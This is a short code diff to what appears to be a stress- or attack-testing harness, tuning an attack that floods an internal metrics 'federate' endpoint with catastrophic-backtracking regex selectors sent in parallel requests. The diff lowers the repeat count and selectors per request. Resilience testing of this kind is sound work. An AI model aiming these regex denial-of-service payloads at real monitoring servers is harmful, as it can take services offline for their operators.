@@ -18,13 +18,13 @@ export const FROM_WITHIN: Readonly<Record<string, Attack>> = {
     run: async (tools) => {
       const selectors = [
         '{__name__=~"(a|b|c|d|e|f|g|.)*.*x.*y.*z"}',
-        `{__name__=~"${"(.+)?".repeat(1_000)}$"}`,
+        `{__name__=~"${"(.+)?".repeat(200)}$"}`,
         '{__name__!="",i=~".*1.*2.*|.*9"}',
         '{__name__=~".+"}',
       ];
       await flood(tools, { abreast: 4 }, async (turn) => {
         const url = new URL("federate", tools.internal);
-        for (let i = 0; i < 20; i++) url.searchParams.append("match[]", selectors[(turn + i) % selectors.length]);
+        for (let i = 0; i < 10; i++) url.searchParams.append("match[]", selectors[(turn + i) % selectors.length]);
         await shoot({ url, token: "none", method: "GET" }, tools);
       });
     },
